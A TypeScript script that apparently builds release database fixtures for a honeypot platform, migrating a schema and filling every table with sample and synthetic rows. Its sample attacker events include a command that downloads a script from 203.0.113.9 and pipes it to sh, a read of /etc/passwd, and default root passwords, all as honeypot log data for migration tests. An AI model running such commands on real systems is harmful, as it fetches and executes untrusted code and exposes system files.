// Release fixtures: a database of a released schema with rows in every table, kept in the repository
// (test/fixtures/releases/<version>/) so each later schema is tested migrating it forward with every
// row intact. Built by scripts/release-fixture.ts at release time: real ingest (events, attackers,
// credentials, intelligence), a user and audit entries through the repositories, then two synthetic
// rows in every table still empty (foreign keys pointing at real parent rows).
import Database from 'better-sqlite3'
import pg from 'pg'
import { createDatabase } from '../database.ts'
import { migrate } from '../migrate.ts'
import { applySqlitePragmas, BLOCKING_BUSY_TIMEOUT_MS } from '../sqlite.ts'
import { parseDatabaseUrl } from '../url.ts'

const FILLER_ROWS = 2
const quote = (name: string) => `"${name.replaceAll('"', '""')}"`

type Column = { name: string; type: string; hasDefault: boolean; foreign?: { table: string; column: string } }

const at = (i: number) => new Date(Date.UTC(2026, 10, 1, 12, 0, i))

function fillerValue(table: string, column: Column, i: number, dialect: 'sqlite' | 'postgres'): unknown {
  const type = column.type.toLowerCase()
  if (type.includes('bool')) return dialect === 'sqlite' ? i % 2 : i % 2 === 1
  if (type.includes('int') || type === 'bigint') return i + 1
  if (type.includes('real') || type.includes('double') || type.includes('numeric') || type.includes('float'))
    return i + 0.5
  if (type.includes('date') || type.includes('time'))
    return dialect === 'sqlite' ? at(i).toISOString().replace('Z', '+00:00') : at(i)
  if (type.includes('json')) return '{}'
  if (type.includes('blob') || type.includes('bytea')) return Buffer.from([i])
  return `${table}-${column.name}-${i}`
}

async function ingestRealRows(url: string): Promise<void> {
  const db = createDatabase(url)
  try {
    await db.users.create({
      username: 'fixture-admin',
      passwordHash: 'argon2-placeholder',
      role: 'admin',
      mustChangePassword: false,
    })
    const events = [
      { eventType: 'connect', fields: {} },
      {
        eventType: 'login_attempt',
        fields: { username: 'root', password: 'admin123', client: 'SSH-2.0-libssh_0.9.6' },
      },
      { eventType: 'login_success', fields: { username: 'root', password: 'toor' } },
      { eventType: 'command', fields: { command: 'uname -a; wget http://203.0.113.9/x.sh -O- | sh' } },
      { eventType: 'command', fields: { command: 'cat /etc/passwd' } },
      { eventType: 'disconnect', fields: {} },
    ]
    for (const [n, source] of ['198.51.100.7', '203.0.113.50'].entries()) {
      await db.logs.ingest(
        events.map((event, i) => ({
          timestamp: at(n * 10 + i),
          decky: 'fixture-01',
          service: 'ssh',
          eventType: event.eventType,
          attackerIp: source,
          attackerPort: 50_000 + n,
          rawLine: `${event.eventType} ${JSON.stringify(event.fields)}`,
          fields: event.fields,
        })),
      )
    }
    await db.audit.append({
      actor: 'fixture-admin',
      action: 'fleet.deploy',
      target: 'fixture-01',
      detail: {},
    })
  } finally {
    await db.close()
  }
}

/** Tables, their columns and foreign keys, in an order where parents come first. */
async function schemaOf(url: string): Promise<Map<string, Column[]>> {
  const target = parseDatabaseUrl(url)
  const tables = new Map<string, Column[]>()
  if (target.kind === 'sqlite') {
    const db = new Database(target.file, { readonly: true })
    try {
      const names = db
        .prepare(
          `SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'
             AND name NOT LIKE 'LogSearch%' AND name <> '_decnet_migrations' ORDER BY name`,
        )
        .all() as { name: string }[]
      for (const { name } of names) {
        const fks = db.prepare(`PRAGMA foreign_key_list(${quote(name)})`).all() as {
          from: string
          table: string
          to: string
        }[]
        const columns = (
          db.prepare(`PRAGMA table_info(${quote(name)})`).all() as {
            name: string
            type: string
            dflt_value: string | null
          }[]
        ).map((column) => {
          const fk = fks.find((each) => each.from === column.name)
          return {
            name: column.name,
            type: column.type,
            hasDefault: column.dflt_value !== null,
            ...(fk ? { foreign: { table: fk.table, column: fk.to } } : {}),
          }
        })
        tables.set(name, columns)
      }
    } finally {
      db.close()
    }
    return tables
  }
  const client = new pg.Client({ connectionString: target.url })
  await client.connect()
  try {
    const columns = await client.query<{
      table_name: string
      column_name: string
      data_type: string
      has_default: boolean
    }>(
      `SELECT table_name, column_name, data_type,
              (column_default IS NOT NULL OR is_generated = 'ALWAYS' OR is_identity = 'YES') AS has_default
         FROM information_schema.columns c
        WHERE table_schema = current_schema() AND table_name <> '_decnet_migrations'
          AND table_name IN (SELECT table_name FROM information_schema.tables
                              WHERE table_schema = current_schema() AND table_type = 'BASE TABLE')
        ORDER BY table_name, ordinal_position`,
    )
    const fks = await client.query<{
      table_name: string
      column_name: string
      ref_table: string
      ref_column: string
    }>(
      `SELECT cl.relname AS table_name, att.attname AS column_name, ref.relname AS ref_table, refatt.attname AS ref_column
         FROM pg_constraint con
         JOIN pg_class cl ON cl.oid = con.conrelid
         JOIN pg_class ref ON ref.oid = con.confrelid
         JOIN pg_attribute att ON att.attrelid = con.conrelid AND att.attnum = con.conkey[1]
         JOIN pg_attribute refatt ON refatt.attrelid = con.confrelid AND refatt.attnum = con.confkey[1]
        WHERE con.contype = 'f'`,
    )
    for (const row of columns.rows) {
      const fk = fks.rows.find(
        (each) => each.table_name === row.table_name && each.column_name === row.column_name,
      )
      const list = tables.get(row.table_name) ?? []
      list.push({
        name: row.column_name,
        type: row.data_type,
        hasDefault: row.has_default,
        ...(fk ? { foreign: { table: fk.ref_table, column: fk.ref_column } } : {}),
      })
      tables.set(row.table_name, list)
    }
  } finally {
    await client.end()
  }
  return tables
}

/** Parents before children (foreign keys form no cycle in this schema). */
function parentsFirst(tables: Map<string, Column[]>): string[] {
  const ordered: string[] = []
  const visit = (name: string, path: Set<string>) => {
    if (ordered.includes(name) || path.has(name)) return
    path.add(name)
    for (const column of tables.get(name) ?? []) {
      if (column.foreign && column.foreign.table !== name) visit(column.foreign.table, path)
    }
    ordered.push(name)
  }
  for (const name of [...tables.keys()].sort()) visit(name, new Set())
  return ordered
}

interface RowWriter {
  count(table: string): Promise<number>
  parentValue(table: string, column: string, i: number): Promise<unknown>
  insert(table: string, values: Record<string, unknown>): Promise<void>
  close(): Promise<void>
}

function sqliteWriter(file: string): RowWriter {
  const db = new Database(file)
  applySqlitePragmas(db, BLOCKING_BUSY_TIMEOUT_MS)
  return {
    count: async (table) =>
      (db.prepare(`SELECT count(*) AS n FROM ${quote(table)}`).get() as { n: number }).n,
    parentValue: async (table, column, i) => {
      const rows = db.prepare(`SELECT ${quote(column)} AS v FROM ${quote(table)} ORDER BY rowid`).all() as {
        v: unknown
      }[]
      return rows[i % rows.length]?.v
    },
    insert: async (table, values) => {
      const names = Object.keys(values)
      db.prepare(
        `INSERT INTO ${quote(table)} (${names.map(quote).join(', ')}) VALUES (${names.map(() => '?').join(', ')})`,
      ).run(...Object.values(values))
    },
    close: async () => {
      db.close()
    },
  }
}

async function postgresWriter(url: string): Promise<RowWriter> {
  const client = new pg.Client({ connectionString: url })
  await client.connect()
  return {
    count: async (table) =>
      Number((await client.query<{ n: string }>(`SELECT count(*) AS n FROM ${quote(table)}`)).rows[0]?.n),
    parentValue: async (table, column, i) => {
      const rows = (
        await client.query<{ v: unknown }>(`SELECT ${quote(column)} AS v FROM ${quote(table)} ORDER BY ctid`)
      ).rows
      return rows[i % rows.length]?.v
    },
    insert: async (table, values) => {
      const names = Object.keys(values)
      await client.query(
        `INSERT INTO ${quote(table)} (${names.map(quote).join(', ')}) VALUES (${names.map((_, n) => `$${n + 1}`).join(', ')})`,
        Object.values(values),
      )
    },
    close: () => client.end(),
  }
}

/** Migrates the empty database at `url` through `through` and fills every table. */
export async function buildReleaseFixture(url: string, through: string): Promise<void> {
  await migrate(url, { through })
  await ingestRealRows(url)
  const tables = await schemaOf(url)
  const target = parseDatabaseUrl(url)
  const writer = target.kind === 'sqlite' ? sqliteWriter(target.file) : await postgresWriter(target.url)
  try {
    for (const table of parentsFirst(tables)) {
      if ((await writer.count(table)) > 0) continue
      for (let i = 0; i < FILLER_ROWS; i++) {
        const values: Record<string, unknown> = {}
        for (const column of tables.get(table) ?? []) {
          if (column.foreign)
            values[column.name] = await writer.parentValue(column.foreign.table, column.foreign.column, i)
          else if (!column.hasDefault || column.name === 'id')
            values[column.name] = fillerValue(table, column, i, target.kind)
        }
        await writer.insert(table, values)
      }
    }
  } finally {
    await writer.close()
  }
}
